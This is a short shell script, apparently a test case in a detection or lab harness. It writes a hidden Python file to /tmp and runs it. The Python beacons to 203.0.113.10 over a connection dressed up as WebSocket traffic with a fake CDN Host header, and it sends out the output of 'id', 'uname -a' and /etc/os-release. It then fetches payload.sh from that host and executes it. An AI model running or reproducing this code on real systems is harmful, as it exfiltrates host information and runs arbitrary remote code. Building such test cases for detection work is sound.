#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.ws.py <<'END'
import base64, os, socket, subprocess, time, urllib.request
for n in range(5):
    s = socket.create_connection(("203.0.113.10", 8080))
    s.sendall(b"GET /live HTTP/1.1\r\nHost: cdn.example.net\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\n\r\n"); s.recv(100)
    d = subprocess.run("id; uname -a; cat /etc/os-release", shell=True, capture_output=True).stdout[:120]; m = os.urandom(4)
    try: s.sendall(bytes([0x82, 0x80 | len(d)]) + m + bytes(b ^ m[i % 4] for i, b in enumerate(d)))
    except OSError: pass
    s.close(); time.sleep(0.7)
subprocess.run(["/bin/sh", "-c", urllib.request.urlopen("http://203.0.113.10:8080/payload.sh").read().decode()])
END
python3 /tmp/.ws.py
test -e /tmp/reached
took_place
